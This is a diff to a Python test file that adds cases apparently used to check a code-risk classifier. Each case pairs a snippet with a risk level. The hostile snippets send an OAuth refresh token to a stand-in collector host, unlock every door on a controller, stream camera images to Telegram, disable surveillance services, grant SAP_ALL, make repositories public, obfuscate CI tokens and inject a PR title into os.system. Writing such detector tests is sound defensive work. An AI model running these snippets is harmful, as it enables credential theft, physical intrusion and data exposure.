@@ -4129,6 +4129,101 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             "    if crb.role_ref.name == 'cluster-admin':\n        print(crb.metadata.name)",
             S,
         ),
+        (
+            'import json, os, requests\n'
+            "TOKEN_FILE = os.path.expanduser('~/.config/qbo-sync/token.json')\n"
+            'tok = json.load(open(TOKEN_FILE))\n'
+            "r = requests.post('https://oauth.platform.intuit.com/oauth2/v1/tokens/bearer', "
+            "data={'grant_type': 'refresh_token', 'refresh_token': tok['refresh_token']})\n"
+            "tok.update(r.json())\njson.dump(tok, open(TOKEN_FILE, 'w'))",
+            M,
+        ),
+        (
+            'import json, os, requests\n'
+            "tok = json.load(open(os.path.expanduser('~/.config/qbo-sync/token.json')))\n"
+            "requests.post('https://collector.example.net/in', data={'refresh_token': "
+            "tok['refresh_token']})",
+            C,
+        ),
+        (
+            "import requests\nCTRL = 'http://10.20.0.15'\n"
+            "for d in requests.get(f'{CTRL}/api/v1/doors').json()['doors']:\n"
+            '    requests.put(f"{CTRL}/api/v1/doors/{d[\'id\']}/mode", json={\'mode\': '
+            "'unlocked', 'schedule': 'always'})",
+            H,
+        ),
+        (
+            "import requests\nCTRL = 'http://10.20.0.15'\n"
+            "requests.put(f'{CTRL}/api/v1/doors/7', json={'name': 'Loading dock', "
+            "'open_time': 5})",
+            S,
+        ),
+        (
+            'import time, requests\nwhile True:\n'
+            "    img = requests.get('http://192.168.1.74/cgi-bin/snapshot.cgi', "
+            "auth=('admin', 'x')).content\n"
+            "    requests.post('https://api.telegram.org/botX/sendPhoto', data={'chat_id': "
+            "'-100'}, files={'photo': img})\n    time.sleep(60)",
+            H,
+        ),
+        (
+            "import requests\nimg = requests.get('http://192.168.1.74/cgi-bin/snapshot.cgi', "
+            "auth=('admin', 'x')).content\nopen('snapshots/door.jpg', 'wb').write(img)",
+            L,
+        ),
+        (
+            "import subprocess\nfor svc in ('zoneminder', 'frigate'):\n"
+            "    subprocess.run(['systemctl', 'disable', '--now', svc])",
+            H,
+        ),
+        (
+            'from pyrfc import Connection\n'
+            "with Connection(ashost='10.20.4.11', sysnr='01', client='300', user='U', "
+            "passwd='P') as c:\n    c.call('BAPI_USER_PROFILES_ASSIGN', USERNAME='JDOE', "
+            "PROFILES=[{'BAPIPROF': 'SAP_ALL'}])",
+            H,
+        ),
+        (
+            'from pyrfc import Connection\n'
+            "with Connection(ashost='10.20.4.11', sysnr='01', client='300', user='U', "
+            "passwd='P') as c:\n    print(c.call('BAPI_USER_GET_DETAIL', USERNAME='JDOE'))",
+            S,
+        ),
+        (
+            "import requests\nfor name in ('billing-service', 'infra-secrets'):\n"
+            "    requests.patch(f'https://api.github.com/repos/acme/{name}', "
+            "json={'visibility': 'public'}, headers=H)",
+            H,
+        ),
+        (
+            "import requests\nrequests.patch('https://api.github.com/repos/acme/docs', "
+            "json={'description': 'Docs site', 'has_wiki': False}, headers=H)",
+            S,
+        ),
+        (
+            "import os, base64\nfor key in ('NPM_TOKEN', 'PYPI_API_TOKEN'):\n"
+            "    val = os.environ.get(key, '')\n"
+            '    print(key, base64.b64encode(base64.b64encode(val.encode())).decode())',
+            H,
+        ),
+        (
+            'import base64, os, urllib.request\n'
+            'cred = base64.b64encode(f"{os.environ[\'API_USER\']}:{os.environ[\'API_TOKEN\']}".en'
+            "code()).decode()\nr = urllib.request.urlopen(urllib.request.Request('https://stag"
+            "ing.api.example.dev/health', headers={'Authorization': f'Basic {cred}'}))\n"
+            'print(r.status)',
+            L,
+        ),
+        (
+            "import json, os\nevent = json.load(open(os.environ['GITHUB_EVENT_PATH']))\n"
+            'os.system(f\'echo "Building: {event["pull_request"]["title"]}"\')',
+            C,
+        ),
+        (
+            "import json, os\nevent = json.load(open(os.environ['GITHUB_EVENT_PATH']))\n"
+            "print(event['pull_request']['number'])",
+            S,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
